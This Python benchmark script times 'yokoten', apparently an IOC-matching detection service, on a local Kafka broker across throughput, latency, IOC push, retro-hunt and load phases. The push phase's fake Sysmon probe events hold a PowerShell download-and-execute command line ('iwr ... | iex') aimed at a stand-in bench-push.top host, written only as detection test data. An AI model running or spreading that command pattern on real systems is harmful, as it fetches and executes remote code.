"""End-to-end figures through a local Kafka broker that this script starts on 127.0.0.1.

Phases, each on topics of its own (names carry a run id):

- ``throughput``: N events of the mixed corpus are produced to the three input
  topics. Then (a) a bare aiokafka consumer reads them all, (b) one
  ``yokoten matcher`` subprocess matches them while its progress is read from
  the group's committed offsets, and (a) runs again. Every sighting is
  checked against the planted IOCs.
- ``latency``: a matcher and a ``yokoten correlator`` run while events are
  produced at a fixed rate (5k/s for 20 s after a 5 s warm-up). Planted IOCs
  repeat across hosts, so alerts fire. Latency is the alert record's
  timestamp (set by the correlator's producer when it publishes) minus the
  time the triggering event (the last sighting reference in the alert) was
  produced.
- ``push``: an IOC record is produced to the IOC topic, then an event that
  contains it every 50 ms until its sighting arrives; repeated for a domain
  (hash-table lookup) and for a URL inside a command line (the delta
  Aho-Corasick automaton).
- ``retro``: the corpus is produced as history, ``yokoten retro-hunt`` starts
  with an empty IOC topic, and then the IOCs planted in the history are
  pushed. The figure is the records scanned per second of the pass that
  the hunter logs, and its retro sightings are checked against the planted
  IOCs.
- ``load``: 1M IOC records are produced to a new IOC topic and a matcher is
  started on it; the figure is the time until ``/readyz`` returns 200 and
  the matcher's resident memory (VmRSS and VmHWM from /proc/<pid>/status).

Every process the script starts (broker, workers) is stopped by its own
handle. Run::

    .venv/bin/python benchmarks/bench_kafka.py
    .venv/bin/python benchmarks/bench_kafka.py --quick
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import importlib.util
import json
import logging
import os
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson
from aiokafka import AIOKafkaConsumer, AIOKafkaProducer
from aiokafka.admin import AIOKafkaAdminClient
from corpus import KINDS, Corpus, IocSet, generate_events, generate_iocs
from machine import print_machine, proc_status

from service.config import load_settings
from service.topics import create_topics

REPO = Path(__file__).resolve().parents[1]
YOKOTEN = str(Path(sys.executable).with_name("yokoten"))
log = logging.getLogger("bench_kafka")
# Every stack created in this run, so that main() stops their workers whatever phase failed.
STACKS: list[Stack] = []


def load_broker_class() -> Any:
    spec = importlib.util.spec_from_file_location("kafka_broker", REPO / "deploy" / "kafka_broker.py")
    if spec is None or spec.loader is None:
        raise RuntimeError(f"cannot load {REPO / 'deploy' / 'kafka_broker.py'}")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.KafkaBroker


def free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def percentile(values: list[float], share: float) -> float:
    """Return the nearest-rank percentile (``share`` from 0 to 1) of ``values``."""
    ordered = sorted(values)
    rank = max(1, min(len(ordered), int(-(-share * len(ordered) // 1))))
    return ordered[rank - 1]


def summary_ms(values: list[float]) -> dict[str, float]:
    if not values:
        return {"samples": 0}
    return {
        "samples": len(values),
        "p50_ms": round(percentile(values, 0.50) * 1000, 1),
        "p90_ms": round(percentile(values, 0.90) * 1000, 1),
        "p99_ms": round(percentile(values, 0.99) * 1000, 1),
        "max_ms": round(max(values) * 1000, 1),
        "mean_ms": round(statistics.fmean(values) * 1000, 1),
    }


def cpu_seconds(pid: int) -> float:
    """Return user plus system CPU seconds of process ``pid``."""
    with open(f"/proc/{pid}/stat", encoding="ascii") as handle:
        fields = handle.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


@dataclass
class Stack:
    """Topic names and environment of one phase; workers started here are stopped by ``stop_workers``."""

    bootstrap: str
    folder: Path
    name: str
    ioc_topic: str | None = None
    processes: list[tuple[str, subprocess.Popen[bytes]]] = field(default_factory=list)

    def __post_init__(self) -> None:
        run = f"{self.name}-{uuid.uuid4().hex[:6]}"
        self.run = run
        self.topics = {kind: f"bench.{run}.{kind}" for kind in KINDS}
        self.ioc_topic = self.ioc_topic or f"bench.{run}.iocs"
        self.env = {
            "YOKOTEN_BOOTSTRAP_SERVERS": self.bootstrap,
            "YOKOTEN_INPUTS": ",".join(f"{self.topics[kind]}:{kind}:auto" for kind in KINDS),
            "YOKOTEN_IOC_TOPIC": self.ioc_topic,
            "YOKOTEN_SIGHTINGS_TOPIC": f"bench.{run}.sightings",
            "YOKOTEN_ALERTS_TOPIC": f"bench.{run}.alerts",
            "YOKOTEN_DEAD_LETTER_TOPIC": f"bench.{run}.dead-letter",
            "YOKOTEN_MATCHER_GROUP": f"bench-matcher-{run}",
            "YOKOTEN_CORRELATOR_ID": f"bench-correlator-{run}",
            "YOKOTEN_DEFAULT_DOMAIN": "corp.example",
            "YOKOTEN_DOMAIN_MAP": "CORP=corp.example",
            "YOKOTEN_PARTITIONS": "4",
            "YOKOTEN_LOG_LEVEL": "INFO",
        }
        self.settings = load_settings(**{key[8:].lower(): value for key, value in self.env.items()})
        STACKS.append(self)

    async def create_topics(self) -> None:
        await create_topics(self.settings)

    def start_worker(
        self, command: str, extra_env: dict[str, str] | None = None
    ) -> tuple[subprocess.Popen[bytes], int, Path]:
        """Start ``yokoten <command>`` with this stack's settings; return the process, its metrics port and log file."""
        port = free_port()
        env = {**os.environ, **self.env, "YOKOTEN_METRICS_PORT": str(port), **(extra_env or {})}
        log_path = self.folder / f"{self.run}-{command}-{len(self.processes)}.log"
        with log_path.open("wb") as log_file:
            process = subprocess.Popen(
                [YOKOTEN, command], env=env, stdout=log_file, stderr=subprocess.STDOUT, cwd=self.folder
            )
        self.processes.append((command, process))
        log.info("Started yokoten %s, pid %d, metrics port %d, log %s", command, process.pid, port, log_path)
        return process, port, log_path

    def stop_workers(self) -> None:
        for command, process in reversed(self.processes):
            stop_process(command, process)
        self.processes.clear()


def stop_process(name: str, process: subprocess.Popen[bytes], timeout: float = 40.0) -> None:
    """Stop one started process by its pid: SIGTERM, then SIGKILL after ``timeout`` seconds."""
    if process.poll() is not None:
        return
    os.kill(process.pid, signal.SIGTERM)
    try:
        process.wait(timeout=timeout)
    except subprocess.TimeoutExpired:
        log.warning("%s pid %d did not stop within %.0f s after SIGTERM; sending SIGKILL", name, process.pid, timeout)
        os.kill(process.pid, signal.SIGKILL)
        process.wait(timeout=10)


def ready(port: int) -> bool:
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/readyz", timeout=2) as response:
            return response.status == 200
    except (urllib.error.URLError, OSError):
        return False


async def wait_ready(
    process: subprocess.Popen[bytes], port: int, log_path: Path, timeout: float, interval: float = 0.1
) -> float:
    """Wait until ``/readyz`` returns 200; return the seconds waited. Raise when the worker exits or times out."""
    started = time.monotonic()
    while time.monotonic() - started < timeout:
        if process.poll() is not None:
            raise RuntimeError(
                f"worker pid {process.pid} exited with code {process.returncode}; log:\n{log_path.read_text()[-3000:]}"
            )
        if await asyncio.to_thread(ready, port):
            return time.monotonic() - started
        await asyncio.sleep(interval)
    raise RuntimeError(
        f"worker pid {process.pid} not ready after {timeout:.0f} s; log:\n{log_path.read_text()[-3000:]}"
    )


def bulk_producer(bootstrap: str) -> AIOKafkaProducer:
    return AIOKafkaProducer(
        bootstrap_servers=bootstrap,
        acks="all",
        linger_ms=20,
        max_batch_size=512 * 1024,
        max_request_size=8 * 1024 * 1024,
    )


async def produce_events(
    bootstrap: str, stack: Stack, events: list[tuple[str, bytes]]
) -> tuple[list[tuple[str, int, int]], float]:
    """Produce every event to its kind's input topic.

    Return (topic, partition, offset) per event and the seconds taken.
    """
    producer = bulk_producer(bootstrap)
    await producer.start()
    started = time.perf_counter()
    try:
        futures = [await producer.send(stack.topics[kind], value=raw) for kind, raw in events]
        metadata = await asyncio.gather(*futures)
    finally:
        await producer.stop()
    return [(item.topic, item.partition, item.offset) for item in metadata], time.perf_counter() - started


async def produce_iocs(bootstrap: str, topic: str, records: Iterable[dict[str, Any]]) -> tuple[int, float]:
    """Produce IOC topic records keyed ``type:value``; return the count and the seconds taken."""
    producer = bulk_producer(bootstrap)
    await producer.start()
    started = time.perf_counter()
    count = 0
    try:
        futures = []
        for record in records:
            key = f"{record['type']}:{record['value']}".encode()
            futures.append(await producer.send(topic, key=key, value=orjson.dumps(record)))
            count += 1
            if len(futures) >= 50_000:
                await asyncio.gather(*futures)
                futures.clear()
        await asyncio.gather(*futures)
    finally:
        await producer.stop()
    return count, time.perf_counter() - started


async def bare_consumer_rate(bootstrap: str, topics: list[str], total: int, max_records: int) -> dict[str, float]:
    """Read ``total`` records of ``topics`` from the start with a plain consumer, batched like the matcher."""
    consumer = AIOKafkaConsumer(
        *topics,
        bootstrap_servers=bootstrap,
        enable_auto_commit=False,
        auto_offset_reset="earliest",
        max_poll_records=max_records,
    )
    started = time.perf_counter()
    await consumer.start()
    seen = 0
    first = None
    try:
        while seen < total and time.perf_counter() - started < 600:
            batches = await consumer.getmany(timeout_ms=200, max_records=max_records)
            for records in batches.values():
                if first is None:
                    first = time.perf_counter()
                seen += len(records)
    finally:
        await consumer.stop()
    finished = time.perf_counter()
    if seen < total or first is None:
        raise RuntimeError(f"bare consumer read {seen} of {total} records")
    return {
        "records": seen,
        "seconds_first_to_last": round(finished - first, 2),
        "events_per_s": round(seen / (finished - first)),
        "events_per_s_including_start": round(seen / (finished - started)),
    }


async def committed_total(admin: AIOKafkaAdminClient, group: str) -> int:
    offsets = await admin.list_consumer_group_offsets(group)
    return sum(item.offset for item in offsets.values() if item.offset > 0)


async def read_topic(bootstrap: str, topic: str, timeout: float = 120.0) -> list[Any]:
    """Read every partition of ``topic`` from the start up to the end offsets it has when reading starts."""
    consumer = AIOKafkaConsumer(
        topic, bootstrap_servers=bootstrap, enable_auto_commit=False, auto_offset_reset="earliest"
    )
    await consumer.start()
    records = []
    try:
        deadline = time.monotonic() + timeout
        while not consumer.assignment():
            if time.monotonic() > deadline:
                raise RuntimeError(f"no partitions of {topic} assigned within {timeout:.0f} s")
            await asyncio.sleep(0.05)
        targets = await consumer.end_offsets(list(consumer.assignment()))
        while time.monotonic() < deadline:
            positions = {tp: await consumer.position(tp) for tp in targets}
            if all(positions[tp] >= end for tp, end in targets.items()):
                break
            for batch in (await consumer.getmany(timeout_ms=500)).values():
                records.extend(batch)
    finally:
        await consumer.stop()
    return records


# -- phases ------------------------------------------------------------------


async def phase_throughput(
    bootstrap: str, folder: Path, args: argparse.Namespace, corpus: Corpus, ioc_topic: str
) -> dict[str, Any]:
    stack = Stack(bootstrap, folder, "tput", ioc_topic=ioc_topic)
    await stack.create_topics()
    refs, produce_seconds = await produce_events(bootstrap, stack, corpus.events)
    total = len(refs)

    print(f"throughput: produced {total} events in {produce_seconds:.1f} s ({total / produce_seconds:.0f}/s)")
    topics = list(stack.topics.values())
    batch = stack.settings.batch_max_records
    bare_before = await bare_consumer_rate(bootstrap, topics, total, batch)
    print(f"  (a) bare aiokafka consumer: {bare_before}")
    admin = AIOKafkaAdminClient(bootstrap_servers=bootstrap)
    await admin.start()
    try:
        process, port, log_path = stack.start_worker("matcher")
        ready_s = await wait_ready(process, port, log_path, timeout=600)
        print(f"  matcher ready after {ready_s:.1f} s (IOC load and group join)")
        samples: list[tuple[float, int]] = []
        cpu_start = cpu_seconds(process.pid)
        started = time.monotonic()
        while time.monotonic() - started < args.matcher_timeout:
            done = await committed_total(admin, stack.settings.matcher_group)
            samples.append((time.monotonic(), done))
            if done >= total:
                break
            if process.poll() is not None:
                raise RuntimeError(
                    f"matcher exited with code {process.returncode}; log:\n{log_path.read_text()[-3000:]}"
                )
            await asyncio.sleep(0.25)
        cpu_used = cpu_seconds(process.pid) - cpu_start
        wall = samples[-1][0] - started
    finally:
        await admin.close()

    done = samples[-1][1]
    if done < total:
        stack.stop_workers()
        raise RuntimeError(f"matcher committed {done} of {total} events within {args.matcher_timeout:.0f} s")
    # Sustained rate: from the first sample past 5% of the events to the sample that reached the end.
    low = next(sample for sample in samples if sample[1] >= total * 0.05)
    end = samples[-1]
    sustained = (end[1] - low[1]) / (end[0] - low[0]) if end[0] > low[0] else float("nan")
    matcher = {
        "events": total,
        "seconds_ready_to_done": round(wall, 2),
        "events_per_s_ready_to_done": round(total / wall),
        "events_per_s_sustained": round(sustained),
        "cpu_seconds": round(cpu_used, 1),
        "cpu_share_of_one_core": round(cpu_used / wall, 2),
        "ready_s": round(ready_s, 1),
    }
    print(f"  (b) yokoten matcher: {matcher}")
    stack.stop_workers()
    bare_after = await bare_consumer_rate(bootstrap, topics, total, batch)
    print(f"  (a) bare aiokafka consumer again: {bare_after}")
    bare_best = max(bare_before["events_per_s"], bare_after["events_per_s"])
    ratio = matcher["events_per_s_sustained"] / bare_best
    print(
        f"  matcher / bare consumer = {ratio:.3f} (target at least 0.6); "
        f"matcher {matcher['events_per_s_sustained']}/s (target 50000/s)"
    )

    sightings = await read_topic(bootstrap, stack.env["YOKOTEN_SIGHTINGS_TOPIC"])
    got = set()
    for record in sightings:
        sighting = orjson.loads(record.value)
        event = sighting["event"]
        got.add((event["topic"], event["partition"], event["offset"], sighting["ioc"]["key"]))
    want = {(*refs[index], key) for index, keys in corpus.expected.items() for key in keys}
    check = {
        "sighting_records": len(sightings),
        "distinct_sightings": len(got),
        "expected": len(want),
        "missing": len(want - got),
        "unexpected": len(got - want),
    }
    print(f"  sightings check: {check}")
    if got != want:
        raise SystemExit(
            f"sightings differ from the planted IOCs: {sorted(want - got)[:3]} missing, "
            f"{sorted(got - want)[:3]} unexpected"
        )
    return {
        "produce_s": round(produce_seconds, 1),
        "bare_consumer": [bare_before, bare_after],
        "matcher": matcher,
        "ratio_to_bare": round(ratio, 3),
        "sightings": check,
    }


async def phase_latency(
    bootstrap: str, folder: Path, args: argparse.Namespace, corpus: Corpus, ioc_topic: str
) -> dict[str, Any]:
    stack = Stack(bootstrap, folder, "lat", ioc_topic=ioc_topic)
    await stack.create_topics()
    matcher, matcher_port, matcher_log = stack.start_worker("matcher")
    correlator, correlator_port, correlator_log = stack.start_worker("correlator")
    await wait_ready(matcher, matcher_port, matcher_log, timeout=600)
    await wait_ready(correlator, correlator_port, correlator_log, timeout=300)
    alerts_topic = stack.env["YOKOTEN_ALERTS_TOPIC"]
    sightings_topic = stack.env["YOKOTEN_SIGHTINGS_TOPIC"]
    received: list[tuple[float, Any]] = []
    stop = asyncio.Event()

    async def collect(topic: str) -> None:
        consumer = AIOKafkaConsumer(
            topic, bootstrap_servers=bootstrap, enable_auto_commit=False, auto_offset_reset="earliest"
        )
        await consumer.start()
        try:
            while not stop.is_set():
                for records in (await consumer.getmany(timeout_ms=100)).values():
                    now = time.time()
                    received.extend((now, record) for record in records)
        finally:
            await consumer.stop()

    collectors = [asyncio.create_task(collect(alerts_topic)), asyncio.create_task(collect(sightings_topic))]
    await asyncio.sleep(2)
    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, acks="all", linger_ms=0)
    await producer.start()
    produced: list[tuple[float, Any]] = []
    rate, warmup, duration = args.rate, args.warmup, args.duration
    events = corpus.events
    started = time.time()
    sent = 0
    try:
        while sent < len(events):
            elapsed = time.time() - started
            if elapsed > warmup + duration:
                break
            due = min(len(events), int(elapsed * rate))
            while sent < due:
                kind, raw = events[sent]
                moment = time.time()
                future = await producer.send(stack.topics[kind], value=raw, timestamp_ms=int(moment * 1000))
                produced.append((moment, future))
                sent += 1
            await asyncio.sleep(0.005)
        metadata = await asyncio.gather(*(future for _, future in produced))
    finally:
        await producer.stop()
    wall = time.time() - started
    produce_times = {
        (item.topic, item.partition, item.offset): moment for (moment, _), item in zip(produced, metadata, strict=True)
    }
    await asyncio.sleep(args.drain)
    stop.set()
    await asyncio.gather(*collectors)
    measured_from = started + warmup
    alert_latency, alert_seen_latency, sighting_latency = [], [], []
    alerts = 0
    for arrived, record in received:
        document = orjson.loads(record.value)
        if record.topic == alerts_topic:
            alerts += 1
            reference = document["yokoten"]["sightings"][-1]
        else:
            reference = document["event"]
        moment = produce_times.get((reference["topic"], reference["partition"], reference["offset"]))
        if moment is None or moment < measured_from:
            continue
        if record.topic == alerts_topic:
            alert_latency.append(record.timestamp / 1000 - moment)
            alert_seen_latency.append(arrived - moment)
        else:
            sighting_latency.append(record.timestamp / 1000 - moment)
    result = {
        "events_produced": sent,
        "achieved_rate": round(sent / wall),
        "alerts": alerts,
        "alert_publish_latency": summary_ms(alert_latency),
        "alert_received_latency": summary_ms(alert_seen_latency),
        "sighting_publish_latency": summary_ms(sighting_latency),
    }
    print(f"latency at {rate}/s: {result}")
    result["stack"] = stack
    return result


async def phase_push(bootstrap: str, stack: Stack, args: argparse.Namespace) -> dict[str, Any]:
    """Push one new IOC at a time and probe until the matcher reports it; reuses the latency stack's workers."""
    sightings_topic = stack.env["YOKOTEN_SIGHTINGS_TOPIC"]
    # IOC key -> (arrival time, (topic, partition, offset) of the event that matched)
    arrivals: dict[str, tuple[float, tuple[str, int, int]]] = {}
    stop = asyncio.Event()

    async def collect() -> None:
        consumer = AIOKafkaConsumer(
            sightings_topic, bootstrap_servers=bootstrap, enable_auto_commit=False, auto_offset_reset="latest"
        )
        await consumer.start()
        try:
            while not stop.is_set():
                for records in (await consumer.getmany(timeout_ms=20)).values():
                    for record in records:
                        event = orjson.loads(record.value)["event"]
                        arrivals.setdefault(
                            record.key.decode(), (time.time(), (event["topic"], event["partition"], event["offset"]))
                        )
        finally:
            await consumer.stop()

    collector = asyncio.create_task(collect())
    await asyncio.sleep(2)
    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, acks="all", linger_ms=0)
    await producer.start()
    results: dict[str, list[float]] = {"domain": [], "url": []}
    # Push to the produce time of the first probe event that matched: when the IOC was active, to 50 ms.
    activation: dict[str, list[float]] = {"domain": [], "url": []}
    probes: dict[tuple[str, int, int], float] = {}
    failures = 0
    try:
        for repetition in range(args.push_repeats):
            for kind in ("domain", "url"):
                label = f"pushed{repetition}-{uuid.uuid4().hex[:8]}"
                if kind == "domain":
                    value = f"{label}.bench-push.top"
                    key = f"domain-name:{value}"
                    probe = {
                        "EventID": 22,
                        "Channel": "Microsoft-Windows-Sysmon/Operational",
                        "Hostname": "WS0001.corp.example",
                        "QueryName": value,
                        "User": "CORP\\user0001",
                    }
                else:
                    value = f"{label}.bench-push.top/dl/stage2.ps1"
                    key = f"url:{value}"
                    probe = {
                        "EventID": 1,
                        "Channel": "Microsoft-Windows-Sysmon/Operational",
                        "Hostname": "WS0002.corp.example",
                        "CommandLine": f'powershell.exe -c "iwr http://{value} | iex"',
                        "User": "CORP\\user0002",
                    }
                record = {"type": key.split(":", 1)[0], "value": value, "source": "bench-push", "severity": "high"}
                pushed = time.time()
                await producer.send_and_wait(stack.ioc_topic, key=key.encode(), value=orjson.dumps(record))
                deadline = pushed + 15
                while key not in arrivals and time.time() < deadline:
                    sent = time.time()
                    future = await producer.send(
                        stack.topics["edr"], value=orjson.dumps({**probe, "UtcTime": "2026-01-05 09:00:00.000"})
                    )
                    future.add_done_callback(
                        lambda done, sent=sent: probes.__setitem__(
                            (done.result().topic, done.result().partition, done.result().offset), sent
                        )
                    )
                    await asyncio.sleep(0.05)
                if key not in arrivals:
                    failures += 1
                    continue
                arrived, reference = arrivals[key]
                results[kind].append(arrived - pushed)
                if reference in probes:
                    activation[kind].append(probes[reference] - pushed)
    finally:
        await producer.stop()
        stop.set()
        await collector
    result: dict[str, Any] = {f"{kind}_until_sighting": summary_ms(values) for kind, values in results.items()}
    result["all_until_sighting"] = summary_ms(results["domain"] + results["url"])
    result["all_until_matching_probe_sent"] = summary_ms(activation["domain"] + activation["url"])
    result["not_active_within_15_s"] = failures
    print(f"pushed IOC until its first sighting arrives: {result}")
    return result


async def phase_load(bootstrap: str, folder: Path, args: argparse.Namespace) -> dict[str, Any]:
    ioc_topic = f"bench.load-{uuid.uuid4().hex[:6]}.iocs"
    stack = Stack(bootstrap, folder, "load", ioc_topic=ioc_topic)
    await stack.create_topics()
    started = time.perf_counter()
    iocs = generate_iocs(args.load_iocs, args.seed + 1)
    generated = time.perf_counter() - started
    count, produce_seconds = await produce_iocs(bootstrap, ioc_topic, iocs.records())
    del iocs
    print(
        f"load: generated {count} IOCs in {generated:.1f} s, "
        f"produced in {produce_seconds:.1f} s ({count / produce_seconds:.0f}/s)"
    )
    process, port, log_path = stack.start_worker("matcher")

    rss_samples: list[int] = []
    began = time.monotonic()
    ready_s = None
    while time.monotonic() - began < args.load_timeout:
        if process.poll() is not None:
            raise RuntimeError(f"matcher exited with code {process.returncode}; log:\n{log_path.read_text()[-3000:]}")
        with contextlib.suppress(FileNotFoundError, ProcessLookupError):
            rss_samples.append(proc_status(process.pid)["VmRSS"])
        if await asyncio.to_thread(ready, port):
            ready_s = time.monotonic() - began
            break
        await asyncio.sleep(0.2)
    status = proc_status(process.pid)
    await asyncio.sleep(2)
    settled = proc_status(process.pid)

    loaded_line = next(
        (line for line in log_path.read_text().splitlines() if "Loaded " in line and " IOCs from " in line), ""
    )
    stack.stop_workers()
    result = {
        "iocs": count,
        "produce_s": round(produce_seconds, 1),
        "ready_s": round(ready_s, 1) if ready_s is not None else f"not ready within {args.load_timeout:.0f} s",
        "rss_at_ready_mib": round(status["VmRSS"] / 1024),
        "rss_2s_after_ready_mib": round(settled["VmRSS"] / 1024),
        "peak_rss_mib": round(settled["VmHWM"] / 1024),
        "matcher_log": loaded_line.strip(),
    }
    print(f"load: {result}")
    return result


async def wait_log(process: subprocess.Popen[bytes], log_path: Path, text: str, timeout: float) -> str:
    """Wait until a line containing ``text`` appears in a worker's log; return that line."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise RuntimeError(
                f"worker pid {process.pid} exited with code {process.returncode}; log:\n{log_path.read_text()[-3000:]}"
            )
        for line in log_path.read_text(errors="replace").splitlines():
            if text in line:
                return line
        await asyncio.sleep(0.2)
    raise RuntimeError(f"no log line containing {text!r} within {timeout:.0f} s; log:\n{log_path.read_text()[-3000:]}")


async def phase_retro(
    bootstrap: str, folder: Path, args: argparse.Namespace, corpus: Corpus, iocs: IocSet
) -> dict[str, Any]:
    """Produce history, start ``yokoten retro-hunt``, push the planted IOCs and time the pass that finds them."""
    stack = Stack(bootstrap, folder, "retro")
    await stack.create_topics()
    refs, produce_seconds = await produce_events(bootstrap, stack, corpus.events)
    print(f"retro: produced {len(refs)} history events in {produce_seconds:.1f} s")
    extra = {"YOKOTEN_RETRO_BATCH_SECONDS": "1", "YOKOTEN_RETRO_GROUP": f"bench-retro-{stack.run}"}
    process, _, log_path = stack.start_worker("retro-hunt", extra)
    await wait_log(process, log_path, "Retro-hunter knows", timeout=300)
    planted = {key for keys in corpus.expected.values() for key in keys}
    records = [record for record in iocs.records() if f"{record['type']}:{record['value']}" in planted]
    pushed = time.time()
    await produce_iocs(bootstrap, str(stack.ioc_topic), records)
    done_line = await wait_log(process, log_path, "Retro-hunt pass done", timeout=args.matcher_timeout)
    finished = time.time()
    numbers = [int(word) for word in done_line.replace(",", " ").split() if word.isdigit()]
    pass_seconds = float(done_line.rsplit(",", 1)[1].split()[0])
    scanned = numbers[-2] if len(numbers) >= 2 else 0
    passes = sum("Retro-hunt pass done" in line for line in log_path.read_text().splitlines())
    stack.stop_workers()
    sightings = await read_topic(bootstrap, stack.env["YOKOTEN_SIGHTINGS_TOPIC"])
    got = set()
    for record in sightings:
        sighting = orjson.loads(record.value)
        event = sighting["event"]
        if sighting.get("retro"):
            got.add((event["topic"], event["partition"], event["offset"], sighting["ioc"]["key"]))
    want = {(*refs[index], key) for index, keys in corpus.expected.items() for key in keys}
    result = {
        "history_events": len(refs),
        "new_iocs": len(records),
        "passes": passes,
        "records_scanned": scanned,
        "pass_seconds": pass_seconds,
        "events_per_s": round(scanned / pass_seconds) if pass_seconds else None,
        "push_to_pass_done_s": round(finished - pushed, 1),
        "retro_sightings": len(got),
        "missing": len(want - got),
        "unexpected": len(got - want),
        "log": done_line.strip(),
    }
    print(f"retro: {result}")
    return result


async def run_phases(bootstrap: str, folder: Path, args: argparse.Namespace) -> dict[str, Any]:
    results: dict[str, Any] = {}
    iocs = generate_iocs(args.iocs, args.seed)
    feed = Stack(bootstrap, folder, "feed")
    await feed.create_topics()
    count, seconds = await produce_iocs(bootstrap, str(feed.ioc_topic), iocs.records())
    print(f"feed: {count} IOCs produced to {feed.ioc_topic} in {seconds:.1f} s")
    phases = set(args.phases.split(","))
    if "throughput" in phases:
        corpus = generate_events(iocs, args.events, args.seed, plant_from=min(10_000, args.iocs))
        results["throughput"] = await phase_throughput(bootstrap, folder, args, corpus, str(feed.ioc_topic))
        del corpus
    if "latency" in phases or "push" in phases:
        count_events = int(args.rate * (args.warmup + args.duration)) + 10
        corpus = generate_events(iocs, count_events, args.seed + 2, plant_from=min(10_000, args.iocs), hot=20)
        results["latency"] = await phase_latency(bootstrap, folder, args, corpus, str(feed.ioc_topic))
        latency_stack = results["latency"].pop("stack")
        if "push" in phases:
            results["push"] = await phase_push(bootstrap, latency_stack, args)
        latency_stack.stop_workers()
    if "retro" in phases:
        corpus = generate_events(iocs, args.events, args.seed, plant_from=min(10_000, args.iocs))
        results["retro"] = await phase_retro(bootstrap, folder, args, corpus, iocs)
        del corpus
    if "load" in phases:
        results["load"] = await phase_load(bootstrap, folder, args)
    return results


def parse_args(argv: list[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description="End-to-end benchmark through a local Kafka broker started by this script."
    )
    parser.add_argument("--events", type=int, default=200_000, help="events for the throughput phase (default 200000)")
    parser.add_argument(
        "--iocs", type=int, default=100_000, help="IOCs loaded by the throughput and latency matchers (default 100000)"
    )
    parser.add_argument("--load-iocs", type=int, default=1_000_000, help="IOCs of the load phase (default 1000000)")
    parser.add_argument("--rate", type=int, default=5000, help="events per second in the latency phase (default 5000)")
    parser.add_argument(
        "--duration", type=float, default=20.0, help="measured seconds of the latency phase (default 20)"
    )
    parser.add_argument("--warmup", type=float, default=5.0, help="unmeasured seconds before that (default 5)")
    parser.add_argument(
        "--drain", type=float, default=10.0, help="seconds to wait for alerts after the last event (default 10)"
    )
    parser.add_argument("--push-repeats", type=int, default=20, help="pushed IOCs per kind (domain, URL) (default 20)")
    parser.add_argument(
        "--matcher-timeout",
        type=float,
        default=600.0,
        help="maximum wait for the matcher to finish, in seconds (default 600)",
    )
    parser.add_argument(
        "--load-timeout",
        type=float,
        default=600.0,
        help="maximum wait for the load-phase matcher to be ready, in seconds (default 600)",
    )
    parser.add_argument(
        "--phases",
        default="throughput,latency,push,retro,load",
        help="phases to run, comma-separated: throughput, latency, push, retro, load (default all)",
    )
    parser.add_argument("--seed", type=int, default=7, help="corpus seed (default 7)")
    parser.add_argument(
        "--quick", action="store_true", help="small sizes: a smoke run of about a minute, broker start included"
    )
    parser.add_argument("--json", type=Path, help="also write the results to this JSON file")
    args = parser.parse_args(argv)
    if args.quick:
        args.events, args.iocs, args.load_iocs = 3000, 2000, 20_000
        args.rate, args.duration, args.warmup, args.drain, args.push_repeats = 500, 3.0, 1.0, 3.0, 2
    return args


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(levelname)s %(message)s")
    logging.getLogger("aiokafka").setLevel(logging.WARNING)
    results: dict[str, Any] = {"machine": print_machine()}
    broker = load_broker_class()()
    folder = Path(tempfile.mkdtemp(prefix="yokoten-bench-kafka-"))
    broker.start()
    log.info("Broker pid %d on %s; worker logs in %s", broker._process.pid, broker.bootstrap, folder)  # noqa: SLF001
    try:
        results.update(asyncio.run(run_phases(broker.bootstrap, folder, args)))
    finally:
        for stack in STACKS:
            stack.stop_workers()
        broker.stop()
    if args.json:
        args.json.write_text(json.dumps(results, indent=2, default=str) + "\n", encoding="utf-8")
    print(f"worker logs kept in {folder}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
